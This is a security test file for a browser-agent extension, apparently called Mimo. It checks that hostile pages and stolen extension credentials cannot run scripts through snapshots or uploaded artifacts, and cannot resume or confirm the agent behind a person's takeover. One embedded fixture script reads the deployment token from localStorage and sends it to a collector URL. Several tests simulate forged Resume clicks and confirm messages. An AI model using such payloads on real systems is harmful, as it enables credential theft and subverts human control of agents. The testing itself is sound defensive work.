// What a hostile page (or a stolen extension credential) can do against Mimo in a real Chromium
// with the real extension and the worker in Miniflare, and what it gets: nothing.
//
// - The HTML snapshot stores no script, handler or `javascript:` URL: opened anywhere, it runs
//   nothing.
// - An HTML artifact (uploaded with scripts by an extension's own credential) opened from its
//   download URL, on the web app's origin where the deployment token is kept: saved as a file,
//   never rendered; embedded, the same; rendered after all (its `Content-Disposition` taken
//   away), sandboxed. The same bytes served without those headers do reach the token — the
//   control that shows the checks can fail.
// - The overlay: the page cannot reach its closed shadow root (even with `attachShadow`
//   patched), synthetic clicks on Resume count for nothing, and runtime messages from a content
//   script's world cannot confirm a step, nor resume from a subframe. The person's own click
//   on Resume still works.
import assert from "node:assert/strict";
import { after, before, describe, it } from "node:test";
import type { CDPSession, Page } from "playwright-core";
import type { DownloadResponse, PresignResponse, TaskStatus } from "../../protocol/ts/protocol.ts";
import { api, sleep } from "../support/clients.ts";
import { act, downloadArtifact, extensionCredential, extensionStorage, ok, overlayPlaced, pressOverlay, startHarness, startTask } from "./harness.ts";
import type { Harness } from "./harness.ts";

let h: Harness;
/**
 * Where a script that ran sends what it took, and every request the browser made there (by path
 * and query), whether or not the browser then let it through.
 */
let collectorUrl = "";
const collected: string[] = [];

before(async () => {
  h = await startHarness();
  collectorUrl = `${h.b}/collect`;
  h.context.on("request", (request) => {
    if (request.url().startsWith(collectorUrl)) collected.push(request.url().slice(collectorUrl.length));
  });
});
after(() => h?.close());

type Ran = { ranLog?: string[] };

describe("the HTML snapshot of a hostile page", () => {
  it("keeps what a person reads and nothing that runs, also when opened in the browser", { timeout: 60_000 }, async () => {
    const url = `${h.a}/hostile.html?snapshot`;
    const { taskId, page } = await startTask(h, url);
    // The page itself does run all of it: the fixture is hostile.
    await page.locator("#broken").evaluate((img: HTMLImageElement) => img.complete);
    const live = await page.evaluate(() => (window as Ran).ranLog ?? []);
    for (const how of ["script", "body onload", "img onerror"]) assert.ok(live.includes(how), `the live page ran ${how}: ${JSON.stringify(live)}`);

    const { result } = await ok<{ artifactId: string }>(h, taskId, { name: "browser_get_html", params: {} });
    const html = await (await downloadArtifact(h, result.artifactId)).text();
    // What a person reads, the title, the styles and the fields stay.
    assert.match(html, /^<!DOCTYPE html>\n<html lang="en"><head><meta charset="utf-8">/);
    assert.match(html, /<title>Hostile page<\/title>/);
    assert.match(html, /<style>h1 \{ color: #311b92; \}<\/style>/);
    assert.match(html, /<p id="text">Text a person reads stays in the snapshot.<\/p>/);
    assert.match(html, /<input id="field" name="submit" value="kept"/);
    assert.match(html, /<a id="js-link">A javascript: link<\/a>/);
    // Nothing that runs.
    for (const [what, pattern] of [
      ["a script", /<script/i],
      ["noscript", /<noscript/i],
      ["a frame", /<iframe|srcdoc/i],
      ["an object or embed", /<object|<embed/i],
      ["an event handler", /\son[a-z]+\s*=/i],
      ["a javascript: URL", /(href|action|src|data)\s*=\s*"\s*javascript:/i],
      ["a meta refresh", /http-equiv/i],
    ] as const) {
      assert.doesNotMatch(html, pattern, `the snapshot holds ${what}`);
    }

    // Opened in Chromium on a page of its own, where scripts may run, and used as a person
    // would (hover, clicks, a link, the form): nothing runs.
    const viewer = await h.context.newPage();
    await viewer.route(`${h.b}/snapshot.html`, (route) => route.fulfill({ status: 200, contentType: "text/html; charset=utf-8", body: html }));
    await viewer.goto(`${h.b}/snapshot.html`);
    await viewer.locator("h1").hover();
    await viewer.locator("h1").click();
    await viewer.locator("#field").focus();
    await viewer.locator("#js-link").click();
    await viewer.locator("#formaction").click();
    await sleep(500);
    assert.equal(await viewer.evaluate(() => (window as Ran).ranLog), undefined, "no script of the page ran in its snapshot");
    assert.deepEqual(await viewer.evaluate(() => Object.keys(localStorage)), []);
    await viewer.close();
  });
});

describe("an HTML artifact with scripts, on the web app's origin", () => {
  const hostile = () =>
    `<!doctype html><title>Evidence</title><script>
const token = (() => { try { return localStorage.getItem("mimo.token"); } catch (e) { return "no storage: " + e.name; } })();
try { localStorage.setItem("ran", "script"); } catch {}
document.cookie = "ran=script; path=/";
new Image().src = "${collectorUrl}/script?token=" + encodeURIComponent(token);
fetch("${collectorUrl}/fetch", { mode: "no-cors" }).catch(() => {});
</script><img src="/none.png" onerror="new Image().src = '${collectorUrl}/onerror'"><p>Evidence</p>`;

  /** Uploads `bytes` as an artifact of the task with the extension's own credential, as a stolen one would. */
  async function uploadAsExtension(taskId: string, kind: "html" | "screenshot", contentType: string, bytes: Uint8Array): Promise<string> {
    const { token } = (await extensionCredential(h.options))!;
    assert.match(token, /^mimo_ext_/);
    const res = await fetch(`${h.mimo.url}/api/artifacts/presign`, {
      method: "POST",
      headers: { authorization: `Bearer ${token}`, "content-type": "application/json" },
      body: JSON.stringify({ taskId, kind, contentType, contentLength: bytes.byteLength }),
    });
    assert.equal(res.status, 200, await res.clone().text());
    const grant = (await res.json()) as PresignResponse;
    assert.equal((await fetch(grant.uploadUrl, { method: "PUT", headers: { "content-type": contentType }, body: Buffer.from(bytes) })).status, 201);
    const lookup = await api(h.mimo, `/api/artifacts/${grant.artifactId}`);
    return ((await lookup.json()) as DownloadResponse).downloadUrl;
  }

  /** What a script that ran would have left on the web app's origin. */
  async function traces(app: Page): Promise<{ storage: string | null; cookie: string; collected: string[] }> {
    return { storage: await app.evaluate(() => localStorage.getItem("ran")), cookie: await app.evaluate(() => document.cookie), collected: [...collected] };
  }
  const none = { storage: null, cookie: "", collected: [] };

  it("is saved as a file, never rendered; embedded, the same; rendered after all, sandboxed", { timeout: 60_000 }, async () => {
    const { taskId } = await startTask(h, `${h.a}/page2.html?artifact`);
    const url = await uploadAsExtension(taskId, "html", "text/html", new TextEncoder().encode(hostile()));
    assert.equal(new URL(url).origin, h.mimo.url, "the download URL is on the web app's origin");
    // The person's web app, with the deployment token, on that origin.
    const app = await h.context.newPage();
    await app.goto(h.mimo.url);
    await app.evaluate((token) => localStorage.setItem("mimo.token", token), h.mimo.token);

    // Opened in a tab: Chromium saves it and renders nothing.
    const tab = await h.context.newPage();
    const [download] = await Promise.all([tab.waitForEvent("download"), tab.goto(url).catch(() => undefined)]);
    assert.match(download.suggestedFilename(), /\.html$/);
    // Embedded in a page of that origin.
    await app.evaluate((src) => {
      const frame = document.createElement("iframe");
      frame.src = src;
      document.body.append(frame);
    }, url);
    await sleep(1000);
    assert.deepEqual(await traces(app), none);

    // Rendered after all (as if a browser ignored `Content-Disposition`): the CSP sandbox runs
    // no script, and the document has an origin of its own.
    await tab.route(url, async (route) => {
      const response = await route.fetch();
      const headers = { ...response.headers() };
      delete headers["content-disposition"];
      await route.fulfill({ response, headers });
    });
    const shown = await tab.goto(url);
    assert.equal(shown?.headers()["content-security-policy"], "sandbox; default-src 'none'");
    assert.equal(shown?.headers()["x-content-type-options"], "nosniff");
    assert.equal(await tab.locator("p").innerText(), "Evidence");
    await sleep(1000);
    assert.deepEqual(await traces(app), none);

    // The control: the same bytes with none of the download headers run, and take the token.
    await tab.unroute(url);
    await tab.route(url, async (route) => {
      const response = await route.fetch();
      await route.fulfill({ status: 200, headers: { "content-type": "text/html" }, body: await response.body() });
    });
    await tab.goto(url);
    for (const deadline = Date.now() + 5000; !collected.some((c) => c.startsWith("/script")); await sleep(100)) assert.ok(Date.now() < deadline, `the control page ran: ${JSON.stringify(collected)}`);
    assert.ok(collected.includes(`/script?token=${encodeURIComponent(h.mimo.token)}`), JSON.stringify(collected));
    assert.equal(await app.evaluate(() => localStorage.getItem("ran")), "script");
    await tab.close();
    await app.close();
  });

  it("an image is shown inline with its exact type", { timeout: 30_000 }, async () => {
    const { taskId } = await startTask(h, `${h.a}/page2.html?image`);
    // A 1×1 PNG.
    const png = Buffer.from("iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==", "base64");
    const url = await uploadAsExtension(taskId, "screenshot", "image/png", png);
    const tab = await h.context.newPage();
    let downloaded = false;
    tab.on("download", () => (downloaded = true));
    const shown = await tab.goto(url);
    assert.equal(shown?.status(), 200);
    assert.equal(shown?.headers()["content-type"], "image/png");
    assert.equal(shown?.headers()["content-disposition"], "inline");
    await sleep(500);
    assert.equal(downloaded, false);
    await tab.close();
  });
});

describe("the overlay against the page", () => {
  /** The extension's content-script world in each frame of `page` (CDP sees it; the page does not). */
  async function contentWorlds(page: Page): Promise<{ cdp: CDPSession; top: number; sub: number }> {
    const cdp = await page.context().newCDPSession(page);
    const worlds: Array<{ id: number; frameId: string }> = [];
    cdp.on("Runtime.executionContextCreated", ({ context }) => {
      const aux = context.auxData as { type?: string; frameId?: string } | undefined;
      if (aux?.type === "isolated" && context.origin === `chrome-extension://${h.extensionId}`) worlds.push({ id: context.id, frameId: aux.frameId ?? "" });
    });
    await cdp.send("Runtime.enable");
    const { frameTree } = await cdp.send("Page.getFrameTree");
    const topId = frameTree.frame.id;
    const top = worlds.find((w) => w.frameId === topId);
    const sub = worlds.find((w) => w.frameId !== topId);
    assert.ok(top && sub, `the content script's world in the top frame and a subframe: ${JSON.stringify(worlds)}`);
    return { cdp, top: top.id, sub: sub.id };
  }

  async function inWorld(cdp: CDPSession, contextId: number, expression: string): Promise<unknown> {
    const { result, exceptionDetails } = await cdp.send("Runtime.evaluate", { contextId, expression, awaitPromise: true, returnByValue: true });
    assert.equal(exceptionDetails, undefined, JSON.stringify(exceptionDetails));
    return result.value;
  }

  async function serverStatus(taskId: string): Promise<TaskStatus> {
    return ((await (await api(h.mimo, `/api/task/${taskId}`)).json()) as { status: TaskStatus }).status;
  }

  it("cannot resume the agent once the person took over, nor confirm a step", { timeout: 90_000 }, async () => {
    const url = `${h.a}/frames.html?other=${new URL(h.b).port}&hostile`;
    const { taskId, page } = await startTask(h, url);
    const overlay = () => page.evaluate(() => document.getElementById("mimo-overlay-host")?.dataset.state ?? "none");
    // The page patches attachShadow to force every shadow root open (in its own world).
    await page.evaluate(() => {
      const attach = Element.prototype.attachShadow;
      Element.prototype.attachShadow = function (init) {
        return attach.call(this, { ...init, mode: "open" });
      };
    });
    const running = act(h, taskId, { name: "browser_wait_for", params: { text: "never there", timeoutMs: 2000 } });
    await page.waitForFunction(() => document.getElementById("mimo-overlay-host")?.dataset.state === "ongoing", null, { timeout: 10_000 });
    // The page's own synthetic input is no takeover either.
    await page.evaluate(() => document.body.dispatchEvent(new MouseEvent("mousedown", { bubbles: true })));
    await sleep(300);
    assert.equal(await overlay(), "ongoing");
    // The person clicks in the page: takeover.
    await page.mouse.click(5, 300);
    await page.waitForFunction(() => document.getElementById("mimo-overlay-host")?.dataset.state === "takeover", null, { timeout: 10_000 });
    await running;
    for (const deadline = Date.now() + 10_000; (await serverStatus(taskId)) !== "takeover"; await sleep(100)) assert.ok(Date.now() < deadline, "the server knows of the takeover");
    const held = act(h, taskId, { name: "browser_scroll", params: { direction: "down" } });

    // The page: no way into the overlay, and its clicks are not the person's.
    await overlayPlaced(page);
    const reach = await page.evaluate(() => {
      const host = document.getElementById("mimo-overlay-host")!;
      host.dispatchEvent(new MouseEvent("click", { bubbles: true, composed: true }));
      const box = host.getBoundingClientRect();
      const at = document.elementFromPoint(window.innerWidth / 2, 24);
      at?.dispatchEvent(new MouseEvent("click", { bubbles: true, composed: true }));
      return { shadowRoot: host.shadowRoot === null ? "none" : "reachable", buttons: document.querySelectorAll("button.resume").length, hit: at === host, size: box.width };
    });
    assert.deepEqual({ shadowRoot: reach.shadowRoot, buttons: reach.buttons, hit: reach.hit }, { shadowRoot: "none", buttons: 0, hit: true });

    // The content script's own world (as if the page found a way in): the closed root is
    // there, but a script's click on Resume is not the person's; the person's commands are
    // not taken from it.
    const { cdp, top, sub } = await contentWorlds(page);
    const clicked = await inWorld(
      cdp,
      top,
      `(() => {
        const root = chrome.dom.openOrClosedShadowRoot(document.getElementById("mimo-overlay-host"));
        const resume = root.querySelector("button.resume");
        resume.click();
        resume.dispatchEvent(new MouseEvent("click", { bubbles: true }));
        return resume.textContent;
      })()`,
    );
    assert.equal(clicked, "Resume");
    const resumeFromFrame = await inWorld(cdp, sub, `chrome.runtime.sendMessage({ type: "mimo:resume" })`);
    assert.deepEqual(resumeFromFrame, { ok: false, code: "PERMISSION_DENIED", message: "mimo:resume comes from the overlay, in the tab's top frame" });

    const worker = h.context.serviceWorkers().find((w) => w.url() === `chrome-extension://${h.extensionId}/background.js`)!;
    await worker.evaluate(() => ((globalThis as unknown as { __mimoTest: { record: string[] | null } }).__mimoTest.record = []));
    const confirm = { type: "mimo:confirm", taskId, step: 1, approve: true };
    for (const message of [confirm, { type: "mimo:reconnect" }, { type: "mimo:wake" }]) {
      const reply = await inWorld(cdp, top, `chrome.runtime.sendMessage(${JSON.stringify(message)})`);
      assert.deepEqual(reply, { ok: false, code: "PERMISSION_DENIED", message: `${message.type} is taken from the extension's own pages only` });
    }
    await sleep(1000);
    assert.equal(await overlay(), "takeover");
    assert.equal(await serverStatus(taskId), "takeover");
    const stored = await extensionStorage<{ takeovers: Array<{ taskId: string; type: string }> }>(h, ["takeovers"]);
    assert.deepEqual(stored.takeovers.filter((t) => t.taskId === taskId).map((t) => t.type), ["takeover"]);
    const sent = await worker.evaluate(() => (globalThis as unknown as { __mimoTest: { record: string[] } }).__mimoTest.record);
    assert.deepEqual(sent.filter((f) => f.includes('"type":"confirm"') || f.includes('"task_control"')), [], "nothing went to the server");
    // The extension's own page may send the same confirmation (the check can fail).
    assert.deepEqual(await h.options.evaluate((m) => chrome.runtime.sendMessage(m), confirm), { sent: true });
    await cdp.detach();

    // The person's own click on Resume lets the held action run.
    await pressOverlay(page, "resume");
    assert.equal((await held).outcome?.status, "ok");
    assert.notEqual(await overlay(), "takeover");
    const log = await extensionStorage<{ takeovers: Array<{ taskId: string; type: string }> }>(h, ["takeovers"]);
    assert.deepEqual(log.takeovers.filter((t) => t.taskId === taskId).map((t) => t.type), ["takeover", "resume"]);
  });
});

